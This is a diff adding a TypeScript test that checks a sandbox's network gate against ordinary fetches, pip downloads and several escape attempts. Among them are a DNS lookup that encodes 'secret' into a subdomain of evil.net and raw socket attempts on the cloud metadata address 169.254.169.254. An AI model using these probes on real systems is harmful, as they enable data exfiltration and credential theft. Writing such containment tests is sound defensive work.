@@ -1,0 +1,167 @@
+import { createHash } from 'node:crypto'
+import { createServer as createHttp, type RequestListener } from 'node:http'
+import { createServer as createHttps } from 'node:https'
+import { buffer } from 'node:stream/consumers'
+import { ZipFile } from 'yazl'
+import { systemClock } from '../../clock.ts'
+import type { NetworkRequest } from '../../contract/network.ts'
+import { type Language, Limits } from '../../contract/run.ts'
+import { localProvider } from '../../sandbox/local/local.ts'
+import type { Sandbox } from '../../sandbox/sandbox.ts'
+import { runIn, temporaryHome, testIds } from '../../sandbox/testing.ts'
+import { createGate } from '../network.ts'
+import { makeCertificate } from './certificates.testing.ts'
+import { openNames } from './world.testing.ts'
+
+/** Run inside a namespace, as the super-user: what people use, from a real jail to real servers. Prints what happened. */
+const host = 'data.example.org'
+const { authority, certificate, key } = makeCertificate(host)
+const big = Buffer.alloc(20 * 1024 * 1024, 'countersign ')
+const wheel = await makeWheel()
+const wheelName = 'tiny_feed-1.0-py3-none-any.whl'
+
+/** The smallest package that pip takes. */
+async function makeWheel(): Promise<Buffer> {
+  const archive = new ZipFile()
+  const at = (name: string) => `tiny_feed-1.0.dist-info/${name}`
+  archive.addBuffer(Buffer.from('Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n'), at('WHEEL'))
+  archive.addBuffer(Buffer.from('Metadata-Version: 2.1\nName: tiny-feed\nVersion: 1.0\n'), at('METADATA'))
+  archive.addBuffer(Buffer.from(''), at('RECORD'))
+  archive.end()
+  return buffer(archive.outputStream)
+}
+
+const serve: RequestListener = (request, response) => {
+  const path = request.url ?? ''
+  if (path === '/rates.csv') response.end('currency,rate\nUSD,1.0832\nGBP,0.8561\n')
+  else if (path === '/big') response.end(big)
+  else if (path === '/slow') response.write('begun')
+  else if (path === '/simple/tiny-feed/') {
+    const hash = createHash('sha256').update(wheel).digest('hex')
+    response.setHeader('content-type', 'text/html')
+    response.end(`<a href="/files/${wheelName}#sha256=${hash}">${wheelName}</a>`)
+  } else if (path.startsWith('/files/')) response.end(wheel)
+  else response.end(JSON.stringify({ path, method: request.method }))
+}
+const names = await openNames(
+  (_, family) => (family === 4 ? ['93.184.216.34'] : []),
+  () => undefined,
+)
+const servers = [createHttp(serve).listen(80), createHttps({ cert: certificate, key }, serve).listen(443)]
+
+const { home, remove } = await temporaryHome()
+const gate = createGate()
+const provider = localProvider({ home, clock: systemClock, ids: testIds, network: gate })
+
+async function open(): Promise<Sandbox> {
+  const opened = await provider.open({ limits: Limits.parse({}) }, new AbortController().signal)
+  if (!opened.ok) throw new Error(opened.problem.message)
+  await opened.value.files.write('ca.pem', Buffer.from(authority))
+  return opened.value
+}
+const trust = {
+  SSL_CERT_FILE: '/work/ca.pem',
+  REQUESTS_CA_BUNDLE: '/work/ca.pem',
+  CURL_CA_BUNDLE: '/work/ca.pem',
+  PIP_CERT: '/work/ca.pem',
+}
+const both = [`https://${host}:443`, `http://${host}:80`]
+
+interface Seen {
+  readonly stdout: string
+  readonly error: string | null
+  readonly network: NetworkRequest[]
+}
+const seen: Record<string, Seen> = {}
+const sandbox = await open()
+async function attempt(name: string, language: Language, code: string, network: string[] = both, where = sandbox) {
+  const ran = await runIn(where, language, code, { network, env: trust })
+  seen[name] = { stdout: ran.stdout, error: ran.error?.message ?? null, network: ran.network }
+}
+
+await attempt('urllib', 'python', `import urllib.request as u\nprint(u.urlopen("https://${host}/a").read().decode())`)
+await attempt('requests', 'python', `import requests\nprint(requests.get("https://${host}/b").text)`)
+await attempt('pandas', 'python', `import pandas\nprint(pandas.read_csv("https://${host}/rates.csv").rate.sum())`)
+await attempt('plain', 'python', `import urllib.request as u\nprint(u.urlopen("http://${host}/c").read().decode())`)
+await attempt('curl', 'bash', `curl -sS https://${host}/d`)
+await attempt('fetch', 'javascript', `console.log(await (await fetch("http://${host}/e")).text())`)
+await attempt(
+  'fetch tls',
+  'javascript',
+  `const client = Deno.createHttpClient({ caCerts: [Deno.readTextFileSync("/work/ca.pem")] })\nconsole.log(await (await fetch("https://${host}/f", { client })).text())`,
+)
+await attempt(
+  'pip',
+  'bash',
+  `python3 -m pip download --no-deps --disable-pip-version-check -q -i https://${host}/simple/ -d out tiny-feed && ls out`,
+)
+await attempt(
+  'download',
+  'python',
+  `import urllib.request as u, hashlib\nprint(hashlib.sha256(u.urlopen("https://${host}/big").read()).hexdigest())`,
+)
+await attempt('not granted', 'python', `import urllib.request as u\nu.urlopen("https://other.example.org/")`)
+await attempt('nothing granted', 'bash', `curl -s http://${host}/`, [])
+await attempt('name asked', 'python', `import socket\nsocket.gethostbyname("c2VjcmV0.evil.net")`)
+await attempt(
+  'own server',
+  'python',
+  `import threading, http.server, urllib.request as u\ns = http.server.HTTPServer(("localhost", 0), http.server.SimpleHTTPRequestHandler)\ns.RequestHandlerClass.log_message = lambda *a: None\nthreading.Thread(target=s.handle_request).start()\nprint(u.urlopen(f"http://localhost:{s.server_port}/ca.pem").status)`,
+  [],
+)
+await attempt(
+  'around the proxy',
+  'python',
+  `import socket\nfor address in ("93.184.216.34", "10.0.0.5", "169.254.169.254"):\n  try: socket.create_connection((address, 443), 2); print("reached", address)\n  except OSError as error: print(error.errno)`,
+)
+
+// A connection that outlives its run is cut off, and one that is opened later is refused.
+await attempt(
+  'kept',
+  'python',
+  `import socket\nkept = socket.create_connection(("127.0.0.1", 3128))\nkept.sendall(b"GET http://${host}/slow HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")\nprint(kept.recv(15))`,
+)
+await attempt(
+  'kept, later',
+  'python',
+  `kept.settimeout(5)\nrest = b""\nwhile data := kept.recv(1000): rest += data\nprint(b"begun" in rest or rest)`,
+)
+
+// A fork has a network of its own, and its original keeps one.
+const forked = await sandbox.fork?.()
+if (forked?.ok) {
+  await attempt(
+    'in the fork',
+    'python',
+    `import urllib.request as u\nprint(u.urlopen("http://${host}/g").read().decode())`,
+    both,
+    forked.value,
+  )
+  await attempt(
+    'in the original',
+    'python',
+    `import urllib.request as u\nprint(u.urlopen("http://${host}/h").read().decode())`,
+  )
+  await attempt(
+    'fork without a grant',
+    'python',
+    `import urllib.request as u\nprint(u.urlopen("http://${host}/i").read().decode())`,
+    [],
+    forked.value,
+  )
+}
+
+// Many at once, and a flood that nobody reads, while the sandbox still answers.
+await attempt(
+  'many',
+  'python',
+  `import urllib.request as u, concurrent.futures as f\nwith f.ThreadPoolExecutor(40) as pool: print(sum(pool.map(lambda n: u.urlopen(f"http://${host}/{n}").status, range(60))))`,
+)
+
+console.log(JSON.stringify({ seen, bigHash: createHash('sha256').update(big).digest('hex') }))
+await provider.close()
+await gate.close()
+await remove()
+names.close()
+for (const server of servers) server.close()
+process.exit(0)
